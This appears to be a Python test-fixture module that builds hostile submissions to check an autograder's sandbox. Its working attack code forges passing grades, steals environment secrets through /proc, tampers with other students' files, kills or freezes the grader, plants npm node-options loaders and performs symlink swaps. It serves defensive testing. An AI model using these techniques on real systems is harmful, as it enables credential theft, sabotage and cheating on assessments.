"""Submissions that try to earn a grade they did not, or to harm the grader (issue: grading
untrusted code). Each is the untouched exercises/ (worth 0) with hostile code run first in one
of its files, or a class folder's honest submission (the victim).

The hostile code is real: it does what it says to whatever it can reach. Where it could harm
processes outside the test (signals, writing into their stdout), it acts only on its own
ancestors up to the `lab grade` process, so that a run without the sandbox
(LAB_ATTACKS_NO_SANDBOX=1) harms that run only.
"""

from __future__ import annotations

import json
from pathlib import Path

from hostile import ROOT, with_prelude

MARK = "s3cr3t-4242"  # in the instructor's secrets and the victim's files: must never reach a result
ORPHAN = "LAB_ORPHAN_MARKER_31337"  # in the command line of a process that tries to outlive grading
FORGED = "FORGED_BY_A_SUBMISSION"

# Prints, as one line on stdout, every place MARK was found (the line then lands in the
# feedback as what the server printed).
LEAK = """
def _leak(where, data):
    import sys as _s
    text = data.decode('latin-1') if isinstance(data, bytes) else str(data)
    at = text.find({mark!r})
    if at >= 0:
        _s.stdout.write('LEAK ' + where + ' ' + text[max(0, at - 40):at + 40] + '\\n')
        _s.stdout.flush()
""".replace("{mark!r}", repr(MARK))


def ancestors_up_to_grader() -> str:
    """Code defining _grader_chain(): the pids from this process's parent up to `lab grade`
    (an argument exactly "grade"), or [] when `lab grade` is out of sight."""
    return """
def _grader_chain():
    import os as _o
    chain, pid = [], _o.getppid()
    while pid > 1:
        try:
            args = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\\0')
            stat = open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()
        except OSError:
            return []
        chain.append(pid)
        if b'grade' in args:
            return chain
        pid = int(stat[1])
    return []
"""


def signal_grader(name: str) -> str:
    """Code sending signal `name` to `lab grade` and every process between it and this one."""
    return ancestors_up_to_grader() + f"""
import os as _o, signal as _sg
for _pid in _grader_chain():
    try:
        _o.kill(_pid, _sg.{name})
    except OSError:
        pass
"""


# The attacks also made from model.py: the model runner is forked by the class's zygote and
# joins its sandbox (lab/process/sandbox_entry.py), a path of its own to show contained.
FROM_MODEL = ("forge", "secrets", "snoop", "linger", "killer", "stopper", "writer", "loopback")


def preludes(class_folder: Path, out: Path, forged_report: dict, proxy_port: int) -> dict[str, tuple[str, str]]:
    """Attack name -> (file it goes into, the code run first)."""
    attacks = server_preludes(class_folder, out, forged_report, proxy_port)
    for name in FROM_MODEL:
        attacks[f"model_{name}"] = ("model.py", attacks[name][1])
    return attacks


def server_preludes(class_folder: Path, out: Path, forged_report: dict, proxy_port: int) -> dict[str, tuple[str, str]]:
    report_line = json.dumps(forged_report)
    return {
        # Writes a passing report into the stdout of every process between it and `lab grade`
        # (the check run's is the grader's verdict pipe), then kills its parent.
        "forge": ("server.py", ancestors_up_to_grader() + f"""
import os as _o, signal as _sg
for _pid in _grader_chain():
    try:
        with open(f'/proc/{{_pid}}/fd/1', 'w') as _f:
            _f.write({report_line!r} + '\\n')
    except OSError:
        pass
try:
    _o.kill(_o.getppid(), _sg.SIGKILL)
except OSError:
    pass
"""),
        # Reads every environment and every working folder's .env it can see, and its own.
        "secrets": ("server.py", LEAK + """
import os as _o
_leak('own-env', repr(dict(_o.environ)))
for _pid in _o.listdir('/proc'):
    for _name in ('environ', 'cwd/.env'):
        try:
            _leak(_pid + '/' + _name, open(f'/proc/{_pid}/{_name}', 'rb').read())
        except OSError:
            pass
"""),
        # Reads and writes the other submissions: in the class folder, and their private copies.
        "snoop": ("server.py", LEAK + f"""
import glob as _g, os as _o
for _path in _g.glob({str(class_folder)!r} + '/*/*.py') + _g.glob('/tmp/lab-grade-*/*/*.py'):
    if _o.path.dirname(_o.path.abspath(_path)) == _o.getcwd():
        continue  # its own copy
    try:
        _leak(_path, open(_path, 'rb').read())
        with open(_o.path.join(_o.path.dirname(_path), 'pwned.txt'), 'w') as _f:
            _f.write({FORGED!r})
    except OSError:
        pass
"""),
        # Finds the kit (find_spec, the editable install's files, its usual path) and runs the
        # reference server in its place.
        "reference": ("server.py", f"""
import glob as _g, importlib.util as _iu, os as _o, runpy as _r, sys as _s
_places = [{str(ROOT / 'solutions' / 'server.py')!r}]
try:
    _spec = _iu.find_spec('lab')
    if _spec and _spec.origin:
        _places.append(_o.path.join(_o.path.dirname(_o.path.dirname(_spec.origin)), 'solutions', 'server.py'))
except Exception:
    pass
for _file in _g.glob(_s.prefix + '/lib/python*/site-packages/*editable*') + _g.glob(_s.prefix + '/lib/python*/site-packages/*.pth'):
    try:
        for _word in open(_file).read().replace('"', ' ').replace("'", ' ').split():
            if _word.startswith('/'):
                _places += [_word.rstrip(',') + '/solutions/server.py', _o.path.dirname(_word.rstrip(',')) + '/solutions/server.py']
    except OSError:
        pass
for _place in _places:
    if _o.path.isfile(_place):
        _s.argv[0] = _place
        _r.run_path(_place, run_name='__main__')
        _s.exit(0)
"""),
        # A double fork, a new session and an empty environment: waits for the summary, then
        # rewrites it and the victim's results.
        "linger": ("server.py", f"""
import os as _o, sys as _s
if _o.fork() == 0:
    _o.setsid()
    if _o.fork() == 0:
        _code = '''
import os, time
{ORPHAN!r}
for _ in range(600):
    if os.path.exists({str(out / 'summary.csv')!r}):
        break
    time.sleep(0.1)
time.sleep(0.5)
for path in ({str(out / 'summary.csv')!r}, {str(out / 'victim' / 'results.json')!r}):
    try:
        open(path, 'w').write({FORGED!r})
    except OSError:
        pass
'''
        _o.execve(_s.executable, [_s.executable, '-c', _code, {ORPHAN!r}], {{}})
    _o._exit(0)
"""),
        # Kills `lab grade` and everything between it and this process.
        "killer": ("server.py", signal_grader("SIGKILL")),
        # Freezes `lab grade` and everything between (no time limit fires in a stopped process).
        "stopper": ("server.py", signal_grader("SIGSTOP")),
        # Writes into the output folder directly.
        "writer": ("server.py", f"""
for _path in ({str(out / 'summary.csv')!r}, {str(out / 'victim' / 'results.json')!r}, {str(out / 'forged.txt')!r}):
    try:
        open(_path, 'w').write({FORGED!r})
    except OSError:
        pass
"""),
        # Reaches a service on the host's loopback (the instructor's model proxy).
        "loopback": ("server.py", f"""
import socket as _so
try:
    with _so.create_connection(('127.0.0.1', {proxy_port}), timeout=2) as _c:
        _c.sendall(b'{FORGED}\\n')
except OSError:
    pass
"""),
        # Finds the kit through what the process has loaded (a preloaded fork holds the kit's
        # modules) and answers with the reference model.py: `from model import ask` takes
        # whatever sys.modules holds as "model" once model.py has run.
        "model_reference": ("model.py", """
import importlib.util as _iu, os as _o, sys as _s
_roots = set()
for _name, _module in list(_s.modules.items()):
    if _name == 'lab' or _name.startswith('lab.'):
        for _path in list(getattr(_module, '__path__', [])) + [getattr(_module, '__file__', None) or '']:
            _at = _path.find('/lab/') if '/lab/' in _path else (len(_path) - 4 if _path.endswith('/lab') else -1)
            if _at > 0:
                _roots.add(_path[:_at])
for _root in sorted(_roots):
    for _place in (_root + '/solutions/model.py', _root + '/lab/solutions/model.py'):
        if _o.path.isfile(_place):
            _spec = _iu.spec_from_file_location('model', _place)
            _reference = _iu.module_from_spec(_spec)
            _spec.loader.exec_module(_reference)
            _s.modules['model'] = _reference
            break
"""),
        # Writes a passing answer line into every descriptor it holds past stdio: one of them
        # could be the check run's, the zygote's, or another asker's.
        "model_fds": ("model.py", f"""
import os as _o
for _fd in range(3, 1024):
    try:
        _o.write(_fd, {report_line!r}.encode() + b'\\n')
    except OSError:
        pass
"""),
        # Answers the model runner's cases ahead of time, on the runner's own stdout.
        "model_forge_answers": ("model.py", """
import json as _j, os as _o
_lines = [{'ready': True}] + [{'text': t, 'recorded': r, 'printed': p} for t, r, p in (
    ('Il peut lister des outils. / It can list tools.', False, ''),
    ('ÉCHANTILLON / SAMPLE', True, "Recorded sample: no model answered (connection refused).\\n"),
    ('ÉCHANTILLON / SAMPLE', True, "Recorded sample: no model answered (HTTP 503).\\n"),
    ('ÉCHANTILLON / SAMPLE', True, "Recorded sample: no model answered (timeout).\\n"))]
_o.write(1, ''.join(_j.dumps(_l) + '\\n' for _l in _lines).encode())
"""),
    }


def make_attack(parent: Path, name: str, file_name: str, prelude: str) -> Path:
    """The untouched exercises with `prelude` run first in `file_name`."""
    import shutil

    folder = parent / name
    shutil.copytree(ROOT / "exercises", folder, ignore=shutil.ignore_patterns("__pycache__"))
    path = folder / file_name
    path.write_text(with_prelude(path.read_text(encoding="utf-8"), prelude), encoding="utf-8")
    return folder


def gradescope_prelude(secret: Path) -> str:
    """The attacks on run_autograder, all from server.py: in every folder named on a command
    line or serving as a working folder of a process it can see, a passing results.json (and verdict)
    made read-only, or one made a link to `secret`, a file of root's; a passing verdict written
    by reopening every descriptor 3 it finds; every kit process whose report pipe
    (fd 1) or memory it can open, printed as REACHED; and every environment value holding MARK
    printed (the feedback then shows it as what the server printed)."""
    forged = {"score": 999, "output": FORGED, "tests": [{"name": FORGED, "score": 999, "max_score": 1}]}
    return LEAK + f"""
import os as _o, json as _j
_forged = _j.dumps({forged!r})
_folders = set()
for _pid in _o.listdir('/proc'):
    if not _pid.isdigit():
        continue
    try:
        _folders.update(_a.decode('utf-8', 'replace') for _a in open(f'/proc/{{_pid}}/cmdline', 'rb').read().split(b'\\0') if _a)
        _folders.add(_o.readlink(f'/proc/{{_pid}}/cwd'))
    except OSError:
        pass
    try:
        with open(f'/proc/{{_pid}}/fd/3', 'w') as _f:
            _f.write(_forged)
    except OSError:
        pass
    try:
        _leak('environ', open(f'/proc/{{_pid}}/environ', 'rb').read())
    except OSError:
        pass
    try:  # a kit process of this uid: its report pipe and its memory, the ways to steer it
        _args = open(f'/proc/{{_pid}}/cmdline', 'rb').read().split(b'\\0')
        if int(_pid) != _o.getpid() and any(_a in (b'check', b'grade', b'gradescope-run') or b'preloader' in _a for _a in _args):
            for _what, _mode in (('fd/1', 'ab'), ('mem', 'rb')):
                try:
                    open(f'/proc/{{_pid}}/{{_what}}', _mode).close()
                    print('REACHED', _what, _pid, _args[-6:], flush=True)
                except OSError:
                    pass
    except OSError:
        pass
_leak('own-environ', '\\n'.join(f'{{_k}}={{_v}}' for _k, _v in _o.environ.items()))
for _folder in sorted(_folders):
    if not _o.path.isdir(_folder):
        continue
    for _name in ('results.json', 'verdict.json'):
        _target = _o.path.join(_folder, _name)
        try:
            _o.unlink(_target)
        except OSError:
            pass
        try:
            if _name == 'results.json':
                _o.symlink({str(secret)!r}, _target)
            else:
                with open(_target, 'w') as _f:
                    _f.write(_forged)
                _o.chmod(_target, 0o444)
        except OSError:
            pass
print('ATTACK RAN', flush=True)
"""


# Whether this bonus server was started by a real client (the SDK or the Inspector): those give
# it the sandbox's clean environment, the kit's own stdio sessions a PYTHONIOENCODING.
BY_A_REAL_CLIENT = "import os as _o\n_by_client = 'PYTHONIOENCODING' not in _o.environ\n"


def planted_inspector_prelude(marker: Path) -> str:
    """Attack #4 of issue 23, from bonus_server.py: at run time, a local Inspector package, its
    `.bin` command and a `.npmrc` whose node-options load a script, all in the server's folder
    (the private copy), each writing `marker` if npm or node ever runs it outside the sandbox,
    and printing a passing Inspector answer."""
    script = f"require('fs').writeFileSync({str(marker)!r}, 'ran as the grader'); console.log('{{\"tools\": []}}');\n"
    return BY_A_REAL_CLIENT + f"""
import json as _j
_here = _o.path.dirname(_o.path.abspath(__file__))
def _plant():
    _package = _o.path.join(_here, 'node_modules', '@modelcontextprotocol', 'inspector')
    _o.makedirs(_o.path.join(_package, 'cli', 'build'), exist_ok=True)
    _o.makedirs(_o.path.join(_here, 'node_modules', '.bin'), exist_ok=True)
    with open(_o.path.join(_package, 'package.json'), 'w') as _f:
        _j.dump({{'name': '@modelcontextprotocol/inspector', 'version': '99.0.0',
                 'bin': {{'mcp-inspector': 'cli/build/cli.js'}}}}, _f)
    for _path in (_o.path.join(_package, 'cli', 'build', 'cli.js'), _o.path.join(_here, 'x.js')):
        with open(_path, 'w') as _f:
            _f.write('#!/usr/bin/env node\\n' + {script!r})
        _o.chmod(_path, 0o755)
    _link = _o.path.join(_here, 'node_modules', '.bin', 'mcp-inspector')
    if not _o.path.lexists(_link):
        _o.symlink('../@modelcontextprotocol/inspector/cli/build/cli.js', _link)
    with open(_o.path.join(_here, '.npmrc'), 'w') as _f:
        _f.write('node-options=--require=./x.js\\n')
    with open(_o.path.join(_here, 'package.json'), 'w') as _f:
        _j.dump({{'name': 'x', 'dependencies': {{'@modelcontextprotocol/inspector': '99.0.0'}}}}, _f)
try:  # a sandboxed folder is read-only: then nothing is planted, and the server goes on
    _plant()
except OSError:
    pass
"""


def swapped_server_prelude(original: Path, victim: Path, marker: Path) -> str:
    """Attack #5 of issue 23, from bonus_server.py: as the kit's main stdio session ends (the
    real clients start after it), it makes itself a link to `original` (the
    submission's own folder in the class folder: a guessed path), which holds a `__main__.py`
    that rewrites the victim's server.py and writes `marker`. A client that resolved the link
    would run that folder, with the class folder bound read-write in its sandbox."""
    return BY_A_REAL_CLIENT + f"""
def _swap():
    _self = _o.path.abspath(__file__)
    try:
        if not _o.path.islink(_self):
            _o.unlink(_self)
            _o.symlink({str(original)!r}, _self)
    except OSError:
        pass
if not _by_client:  # at the end of the kit's main session (the one that probes discover-ready),
    _read, _seen = _o.read, []  # the one the real clients wait for; its processes end without atexit
    def _read_then_swap(fd, size):
        data = _read(fd, size)
        if fd == 0:
            _seen.append(data)
            if not data and b'discover-ready' in b''.join(_seen):
                _swap()
        return data
    _o.read = _read_then_swap
"""


def swapped_server_main(victim: Path, marker: Path) -> str:
    """The `__main__.py` of swapped_server_prelude's folder."""
    return (f"open({str(victim / 'server.py')!r}, 'w').write('raise SystemExit(1)\\n')\n"
            f"open({str(marker)!r}, 'w').write('the class folder was writable')\n")


# A model helper that never tries the model: it prints the fallback line with a plausible
# reason and returns the sample, whatever the case (issue 23's "fallback line without a request").
FALLBACK_WITHOUT_REQUEST = '''\
import os
from model_setup import Answer, model_settings

def ask(messages, sample, max_tokens=80):
    settings = model_settings()
    url = os.environ.get("AI_URL", "")
    reason = "HTTP 503" if "/error" in url else "timeout" if "/slow" in url else "connection refused"
    line = {"fr": "Échantillon enregistré : aucun modèle n’a répondu ({}).",
            "en": "Recorded sample: no model answered ({})."}[settings.lang]
    print(line.format(reason), flush=True)
    return Answer(sample, recorded=True)
'''
